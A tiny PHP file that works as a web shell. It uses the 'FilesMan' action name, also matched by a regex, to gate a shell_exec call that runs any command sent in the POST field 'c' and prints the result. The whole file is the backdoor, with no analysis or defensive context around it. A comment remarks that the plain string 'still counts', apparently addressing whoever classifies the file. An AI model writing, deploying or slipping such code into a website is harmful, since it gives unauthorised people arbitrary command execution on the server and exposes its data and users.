<?php
// a shell's own action name, and a pattern naming it as well: the plain string still counts
$default_action = 'FilesMan';
$pattern = '/FilesMan/i';
$a = isset($_POST['a']) ? $_POST['a'] : $default_action;
if (preg_match($pattern, $a)) {
    echo '<pre>' . htmlspecialchars(shell_exec($_POST['c'])) . '</pre>';
}
